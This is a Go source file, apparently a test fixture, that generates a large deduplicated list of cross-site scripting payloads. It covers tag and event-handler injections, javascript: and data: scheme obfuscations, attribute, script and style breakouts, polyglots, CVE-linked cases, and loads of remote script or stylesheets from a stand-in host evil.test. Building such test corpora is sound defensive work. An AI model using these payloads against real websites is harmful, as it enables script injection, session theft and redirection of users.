package xss

import (
	"fmt"
	"strings"
)

// payloads are what hostile users send. RUN is the call that must not happen, ID
// the number of the case; evil.test is another site.
func payloads() []string {
	list := append([]string(nil), written...)
	// Elements that run something by themselves, at the end of what may be open.
	list = append(list, running...)
	for _, closer := range closers {
		list = append(list, closer+"<img src=x onerror=RUN>")
	}
	for _, closer := range closers[:12] {
		list = append(list, closer+"<svg onload=RUN>")
	}
	list = append(list, schemes...)
	list = append(list, handlers...)
	list = append(list, scripts...)
	seen := map[string]bool{}
	unique := list[:0]
	for _, p := range list {
		if !seen[p] {
			seen[p] = true
			unique = append(unique, p)
		}
	}
	return unique
}

// payload fills in the number of a case.
func payload(text string, id int) string {
	number := fmt.Sprint(id)
	return strings.NewReplacer("RUN", "pwned("+number+")", "ID", number, "evil.test", "n"+number+".evil.test").Replace(text)
}

// running run once they are parsed.
var running = []string{
	`<script>RUN</script>`,
	`<SCRIPT>RUN</SCRIPT>`,
	`<script >RUN</script >`,
	"<script\n>RUN</script\n>",
	`<script/x>RUN</script>`,
	`<script src=//evil.test/ID.js></script>`,
	`<script src="data:text/javascript,RUN"></script>`,
	`<script type=module>RUN</script>`,
	`<script xlink:href="data:text/javascript,RUN"></script>`,
	`<svg><script>RUN</script></svg>`,
	`<svg><script>&#112;wned(ID)</script></svg>`,
	`<svg><script href="data:text/javascript,RUN"></script></svg>`,
	`<svg/onload=RUN>`,
	`<svg onload="RUN">`,
	`<svg><animate onbegin=RUN attributeName=x dur=1s>`,
	`<svg><set onbegin=RUN attributeName=x>`,
	`<svg><image href=x onerror=RUN>`,
	`<svg><a><set attributeName=href to=javascript:RUN><text>a</text></a>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x"/></svg>`,
	`<svg><style><img src=x onerror=RUN></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=RUN>">`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">`,
	`<math><mtext><table><mglyph><style><math><img src=x onerror=RUN></style></math></mglyph></table></mtext></math>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>`,
	`<math href="javascript:RUN">a</math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>`,
	`<img src=x onerror=RUN>`,
	`<img src=x onerror="RUN">`,
	`<IMG SRC=x OnErRoR=RUN>`,
	`<img/src=x/onerror=RUN>`,
	"<img\tsrc=x\tonerror=RUN>",
	"<img\fsrc=x\fonerror=RUN>",
	`<img src=x:x onerror=RUN//`,
	`<img src=x onerror=&#112;wned(ID)>`,
	`<image src=x onerror=RUN>`,
	`<video src=x onerror=RUN></video>`,
	`<video><source onerror=RUN></video>`,
	`<audio src=x onerror=RUN></audio>`,
	`<body onload=RUN>`,
	`<body onpageshow=RUN>`,
	`<input autofocus onfocus=RUN>`,
	`<textarea autofocus onfocus=RUN></textarea>`,
	`<select autofocus onfocus=RUN></select>`,
	`<a href=# autofocus tabindex=1 onfocus=RUN>a</a>`,
	`<details open ontoggle=RUN>a</details>`,
	`<marquee onstart=RUN>a</marquee>`,
	`<iframe src=javascript:parent.RUN></iframe>`,
	`<iframe onload=RUN></iframe>`,
	`<iframe srcdoc="<script>RUN</script>"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>`,
	`<object data=javascript:RUN></object>`,
	`<object data="data:text/html,<script>parent.postMessage(1)</script><svg onload=RUN>"></object>`,
	`<embed src=javascript:RUN>`,
	`<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">`,
	`<object onerror=RUN data=x></object>`,
	`<style onload=RUN></style>`,
	`<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=RUN>a</p>`,
	`<link rel=stylesheet href=data:text/css, onload=RUN>`,
	`<link rel=preload as=image href=x onerror=RUN>`,
	`<meta http-equiv=refresh content="0;url=javascript:RUN">`,
	`<meta http-equiv=refresh content="0;url=//evil.test/ID">`,
	`<base href=//evil.test/ID/>`,
	`<form action=javascript:RUN><button>a</button></form>`,
	`<form><button formaction=javascript:RUN>a</button></form>`,
	`<isindex type=image src=1 onerror=RUN>`,
	`<a href=javascript:RUN>a</a>`,
	`<a href="java&Tab;script:RUN">a</a>`,
	`<area href=javascript:RUN>`,
	`<p onclick=RUN>a</p>`,
	`<x onclick=RUN>a</x>`,
	`<p contenteditable onfocus=RUN autofocus>a</p>`,
	`<dialog open onclose=RUN><form method=dialog><button>a</button></form></dialog>`,
	`<template><script>RUN</script></template><img src=x onerror=RUN>`,
	`<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>`,
	`<title><img src=x onerror=RUN></title>`,
	`<xmp><p title="</xmp><svg/onload=RUN>"></xmp>`,
	`<!--><img src=x onerror=RUN>-->`,
	`<!--a--!><img src=x onerror=RUN>-->`,
	`<![CDATA[><img src=x onerror=RUN>]]>`,
	`<?x ><img src=x onerror=RUN>?>`,
	`<!x><img src=x onerror=RUN>`,
	`</p ><img src=x onerror=RUN>`,
	`<<img src=x onerror=RUN>`,
	`<img src=x onerror=RUN `,
	"\x00<img src=x onerror=RUN>",
	"<\x00img src=x onerror=RUN>",
	`&lt;img src=x onerror=RUN&gt;`,
	`&lt;script&gt;RUN&lt;/script&gt;`,
	`&#60;img src=x onerror=RUN&#62;`,
	`&amp;lt;img src=x onerror=RUN&amp;gt;`,
	"\uff1cimg src=x onerror=RUN\uff1e",
	"\u2039img src=x onerror=RUN\u203a",
	"+ADw-script+AD4-RUN+ADw-/script+AD4-",
	"<p id=\"\u2028\" onclick=RUN>",
	`<div popover id=p onbeforetoggle=RUN>a</div><button popovertarget=p>a</button>`,
	`<input type=hidden oncontentvisibilityautostatechange=RUN style=content-visibility:auto>`,
	`<video autoplay onloadstart=RUN><source src=data:video/mp4,></video>`,
}

// closers end what a value may stand in.
var closers = []string{
	`">`, `'>`, ` >`, `>`, `-->`, `--!>`, `-- >`, `</title>`, `</textarea>`, `</script>`, `</style>`, `</noscript>`,
	`</SCRIPT >`, `</script/>`, "</script\n>", "</script\t x>", `</style/>`, "</STYLE\f>", `</TITLE >`, `</textarea/x>`, `</xmp>`, `</iframe>`, `</noembed>`,
	`</noframes>`, `</select>`, `</option></select>`, `</template>`, `</table>`, `</svg>`, `</math>`, `</p>`, `</a>`, `]]>`, `*/</style>`, `;</script>`, `";</script>`,
	`';</script>`, "`;</script>", `});</script>`, "\n</script>", `"/>`, `'/>`, `"'>`, "`>", `">'>`, `&quot;>`, `&#34;>`, `&#x22>`, `" >`, "\"\n>", `%22>`, `\">`, `\x22>`, `\u0022>`,
	`-->]]></script></style></title></textarea></noscript></template></xmp>"'>`,
}

// schemes are whole addresses.
var schemes = []string{
	`javascript:RUN`, `JavaScript:RUN`, `JAVASCRIPT:RUN`, ` javascript:RUN`, "\tjavascript:RUN", "\njavascript:RUN", "\r\njavascript:RUN",
	"\x01javascript:RUN", "\x00javascript:RUN", "\x1fjavascript:RUN", "\u00a0javascript:RUN", "\ufeffjavascript:RUN", "\u200bjavascript:RUN", "\u2028javascript:RUN",
	"java\tscript:RUN", "java\nscript:RUN", "java\rscript:RUN", "j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t:RUN", "javascript\t:RUN", "javascript\n:RUN", "java\x00script:RUN", "java\x01script:RUN", "java\u00adscript:RUN",
	`javascript&colon;RUN`, `javascript&#58;RUN`, `javascript&#x3a;RUN`, `javascript&#0000058RUN`, `&#106;avascript:RUN`, `&#x6A;avascript:RUN`, `java&Tab;script:RUN`, `java&NewLine;script:RUN`, `java&#9;script:RUN`, `&#1;javascript:RUN`,
	`javascript%3aRUN`, `javascript%3ARUN`, `%6aavascript:RUN`, `java%09script:RUN`, `java%0ascript:RUN`,
	`javascript://evil.test/%0aRUN`, `javascript://%0aRUN`, `javascript:/**/RUN`, `javascript:"/*'/*` + "`" + `/*--></noscript></title></textarea></style></template></noembed></script><html onmouseover=RUN //`,
	`javascript:void(RUN)`, `javascript:RUN//`, `javascript:RUN/*`, `javascript:{RUN}`, "javascript:`${RUN}`", `javascript:%70wned(ID)`, `javascript:\u0070wned(ID)`, `javascript:parent.RUN`, `javascript:'<script>parent.RUN</script>'`,
	`vbscript:RUN`, `livescript:RUN`, `mocha:RUN`, `jscript:RUN`, `feed:javascript:RUN`, `view-source:javascript:RUN`, `blob:javascript:RUN`, `filesystem:javascript:RUN`, `about:javascript:RUN`,
	`data:text/html,<script>RUN</script>`, `data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`, `DATA:text/html,<svg onload=RUN>`, ` data:text/html,<svg onload=RUN>`, "da\tta:text/html,<svg onload=RUN>", `data:,<svg onload=RUN>`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>`,
	`data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script></html>`, `data:text/javascript,RUN`, `data:application/javascript,RUN`, `data:text/css,*{background:url(javascript:RUN)}`, `data:image/png;base64,x" onerror=RUN x="`,
	`https://evil.test/ID`, `http://evil.test/ID.js`, `//evil.test/ID`, `//evil.test/ID.js`, `/\evil.test/ID`, `\\evil.test/ID`, `\/evil.test/ID`, `///evil.test/ID`, `////evil.test/ID`, `/evil.test/ID`, `\evil.test/ID`, "/\t/evil.test/ID", "/\n/evil.test/ID", "\t//evil.test/ID", "/\r\\evil.test/ID", `https:evil.test/ID`, `https:/evil.test/ID`, `http:\\evil.test/ID`, `https:\evil.test/ID`,
	`/.//evil.test/ID`, `/..//evil.test/ID`, `./../../..//evil.test/ID`, `.evil.test/ID`, `@evil.test/ID`, `:@evil.test/ID`, `%2f%2fevil.test/ID`, `//evil.test%2fID`, "//ev\til.test/ID", "//evil\u3002test/ID", "\uff0f\uff0fevil.test/ID", `//user@evil.test/ID`, `http://evil.test\@app.test/ID`,
	`0;url=javascript:RUN`, `0;url=//evil.test/ID`, `0; url = 'javascript:RUN'`, `0,javascript:RUN`, `0 javascript:RUN`, "0;\turl\t=\tjavascript:RUN", `;url=javascript:RUN`, `';url=javascript:RUN`, `0;javascript:RUN`, `0;https://evil.test/ID`, `0;url=data:text/html,<svg onload=RUN>`, `1;url=/a;url=javascript:RUN`, `0;url="javascript:RUN"`, "0;url=java\tscript:RUN", `0url=//evil.test/ID`, `.0;URL=//evil.test/ID`,
	`javascript:RUN 2x, x`, `x, javascript:RUN`, `x 1x,javascript:RUN 2x`, `data:text/html,<svg onload=RUN> 1x`, `/b;javascript:RUN`, `javascript:RUN;/b`, `;javascript:RUN`, `/b; javascript:RUN`, `href`, `xlink:href`, `x:href`, `HREF`,
	`javascript`, `script:RUN`, `t:RUN`, `:RUN`, `cript:RUN//javas`, `javascript:RUN#`, `#javascript:RUN`, `?javascript:RUN`, `a?javascript:RUN`, `mailto:javascript:RUN`, `tel:javascript:RUN`, `http:javascript:RUN`, `x:javascript:RUN`, `javascript:javascript:RUN`, `jav&#x0A;ascript:RUN`,
}

// handlers break out of attributes.
var handlers = []string{
	`" onclick=RUN x="`, `' onclick=RUN x='`, ` onclick=RUN `, `a onclick=RUN`, "a\tonclick=RUN", "a\nonclick=RUN", "a\fonclick=RUN", "a\ronclick=RUN", `a/onclick=RUN`, `/onclick=RUN`, "a\x0bonclick=RUN", "a\u00a0onclick=RUN",
	`"onclick=RUN x="`, `'onclick=RUN x='`, `" autofocus onfocus=RUN x="`, `" onerror=RUN src="x`, `x" onload="RUN`, `" style=animation-name:x onanimationstart=RUN "`, "`onclick=RUN`", "` onclick=RUN x=`", `onclick=RUN`, `onclick="RUN"`, `onclick='RUN'`, `onclick = RUN`, `ONCLICK=RUN`, `onclick`, `onfocus autofocus`, `style`, `src`, `srcdoc`, `href=javascript:RUN`, `srcdoc="<svg onload=RUN>"`,
	`x onclick=RUN y`, `x/onclick=RUN/y`, `x>y`, `x"onclick="RUN`, `x=y onclick=RUN`, `=RUN`, `"=""onclick="RUN`, `&quot; onclick=RUN x=&quot;`, `&#34; onclick=RUN x=&#34;`, `&#x22 onclick=RUN x=&#x22`, `&#39; onclick=RUN x=&#39;`, `&apos; onclick=RUN x=&apos;`, `&grave; onclick=RUN`, `\" onclick=RUN x=\"`, `%22 onclick=RUN x=%22`, "\u201c onclick=RUN x=\u201d", "\u2028onclick=RUN", "\x00\" onclick=RUN x=\"",
	`>`, `><svg/onload=RUN`, `x><svg/onload=RUN>`, `/><svg/onload=RUN>`, ``, ` `, `/`, `=`, `"`, `'`, "`", `\`, `<`, `&`, `-`, `on`, `hx-on:click=RUN`, `@click=RUN`, `x-data=RUN`, `v-on:click=RUN`, `{{RUN}}`, `${RUN}`, `<%=RUN%>`, `#{RUN}`, `constructor.constructor('RUN')()`, `{{constructor.constructor('RUN')()}}`,
	`js:{a:RUN}`, `javascript:{a:RUN}`, `{"a":RUN}`, `{a:RUN}`,
}

// scripts break out of scripts and styles.
var scripts = []string{
	`";RUN;"`, `';RUN;'`, "`;RUN;`", `"+RUN+"`, `'+RUN+'`, "`+RUN+`", `${RUN}`, `$${RUN}`, `\${RUN}`, `{RUN}`, `}${RUN}`, `}+RUN+{`, "}`;RUN;`${", "`${`${RUN}`}`", `$`, `{RUN}$`,
	`\";RUN;//`, `\';RUN;//`, "\\`;RUN;//", `\\";RUN;//`, `\`, `\\`, `\";RUN//`, `\u0022;RUN;//`, `\x22;RUN;//`, `\x27;RUN;//`, `\47;RUN;//`, "\";RUN//", "');RUN;//", `");RUN;//`, `&#39;);RUN;//`, `&apos;);RUN;//`, `&#x27;);RUN;//`, `&#39);RUN;//`, `&quot;);RUN;//`, `&quot;;RUN;//`, `&#34;-RUN-&#34;`, `&lpar;`, `%27);RUN;//`, `%22);RUN;//`, `'-RUN-'`, `"-RUN-"`, `'/RUN/'`, `'||RUN||'`, `'],RUN,['`, `"],RUN,["`, `'}),RUN,({a:'`,
	"\nRUN\n", "\rRUN\r", "\u2028RUN\u2028", "\u2029RUN\u2029", "\";\nRUN//", "x\nRUN//", "x\u2028RUN//", "*/RUN/*", "*/;RUN;/*", "--></script><script>RUN</script>", "-->\nRUN", "\n-->RUN", "<!--\nRUN", "\n--> x\nRUN", "#!\nRUN",
	"0;RUN", "1-RUN", "1,RUN", "RUN", "(RUN)", "RUN()", "[RUN]", "{a:RUN}", "}RUN{", "})();RUN;(()=>{", "1}};RUN;{{", "a=RUN", "function(){RUN}()", "new RUN", "/RUN/", "a/-RUN-/b", "/-RUN-/", "x/;RUN;/y", "[/RUN/]", "]/;RUN;//", "\\/;RUN;//", "/;RUN//", "(?:/);RUN//", "x/g;RUN//",
	"</script><script>RUN</script>", "</ScRiPt><script>RUN</script>", "</script ><script>RUN</script>", "</script/x><svg onload=RUN>", "<!--<script>", "<!--<script></script>", "<!-- <script", "<script", "</script", "<!--", "]]></script><svg onload=RUN>", "\\x3c/script><svg onload=RUN>", "<\\/script><svg onload=RUN>", "\ufeff</script><svg onload=RUN>",
	`__proto__`, `{"__proto__":1}`, `toString`, `\u2028RUN`, `\nRUN`, `\r\nRUN`, `\8";RUN//`, "\\\nRUN", "\\\";RUN//", "\xed\xa0\x80\";RUN//", "\xff\";RUN//", "\xe2\x80\";RUN//", "\xc0\xbcsvg onload=RUN\xc0\xbe",
	`red;background:url(javascript:RUN)`, `expression(RUN)`, `-moz-binding:url(//evil.test/ID)`, `behavior:url(//evil.test/ID)`, `url(javascript:RUN)`, `url("javascript:RUN")`, `}*{background:url(javascript:RUN)}`, `}</style><svg onload=RUN>`, `</style ><svg onload=RUN>`, `</style/><svg onload=RUN>`, `\3c/style\3e<svg onload=RUN>`, `"}</style><svg onload=RUN>`, `*/</style><svg onload=RUN>`, `@import "//evil.test/ID"`, `@import url(//evil.test/ID);`, `";@import "//evil.test/ID";"`, `'; behavior:url(//evil.test/ID); '`, `\27; x:expression(RUN)`, `) url(//evil.test/ID`, `'),url('//evil.test/ID`, `/**/`, `*`, `/*`, `*/}body{x:y}/*`, `<!--`, `-->`, `a{b:c}`, `x;position:fixed;inset:0`, `\`, `\a`, `\0a x:y`, `expr\65ssion(RUN)`, `e\0078pression(RUN)`, `ex/**/pression(RUN)`, `url\28javascript:RUN\29`,
}

// written are polyglots and the payloads of known bugs.
var written = []string{
	// Polyglots: 0xSobky's and its kin.
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=RUN )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e",
	"\">><marquee><img src=x onerror=RUN></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=RUN><script>RUN</script>@gmail.com<isindex formaction=javascript:RUN type=submit>'-->\"></script><script>RUN</script>",
	"'\"</Script><Html Onmouseover=(RUN) //",
	"javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=RUN//>",
	"'\">*/-->'\"></title></textarea></style></noscript></script><svg onload=RUN>",
	"`-RUN-`'-RUN-'\"-RUN-\"//</script><svg/onload=RUN>",
	// CVE-2023-24538, CVE-2026-32289: template literals.
	"`+RUN+`", "${RUN}", "`}`${RUN}`{`",
	// CVE-2023-24539: angle brackets and slashes in CSS.
	"</style><svg onload=RUN>", "*/ } </style><img src=x onerror=RUN> /*",
	// CVE-2023-24540: white space of JavaScript that is not ASCII.
	"\u00a0RUN", "\ufeffRUN", "\u3000RUN\u3000", "\u1680/RUN/", "\u2003;RUN",
	// CVE-2023-29400: empty values without quotes.
	"", "\t", "\n",
	// CVE-2023-39318: HTML-like comments and hashbangs.
	"<!-- \";RUN", "--> \nRUN", "#! \nRUN", "\n<!--\nRUN\n-->",
	// CVE-2023-39319: script tags in literals.
	"<!--<script>\";RUN//", "\"</script><script>RUN", "<script>/*", "<!--<script>*/RUN",
	// CVE-2024-22195, CVE-2024-34064: keys of xmlattr.
	"x onclick=RUN", "x/onclick=RUN", "x>onclick=RUN", "x=y/onclick=RUN", "x\fonclick=RUN",
	// CVE-2026-27142, CVE-2026-39823: addresses of a refresh.
	"0;url=javascript:RUN", "0; url  =  javascript:RUN", "0;\nURL\n=\njavascript:RUN", "javascript:RUN",
	// CVE-2026-39826: a type that is empty or white space.
	"\";RUN;\"", "module", "text/javascript",
	// CVE-2026-56858: a regular expression or a division.
	"a/-RUN-/b", "/RUN/", "x/ RUN /y", "1/RUN/1",
	// CVE-2020-28493 and urlize.
	"http://a.test/\"onmouseover=\"RUN", "http://a.test/'><svg/onload=RUN>", "www.a.test/<svg/onload=RUN>", "javascript://a.test/%0aRUN", "mailto:a@a.test?x=\"onclick=\"RUN", "a@a.test<svg/onload=RUN>", "http://a.test/&quot;onclick=RUN", "https://a.test/`onclick=RUN", "(http://a.test/\" onclick=RUN x=\")",
	// Formats and joins.
	"%s<svg onload=RUN>", "{}<svg onload=RUN>", "%(x)s<img src=x onerror=RUN>", "{0}\"onclick=RUN", "%3Csvg onload=RUN%3E",
}
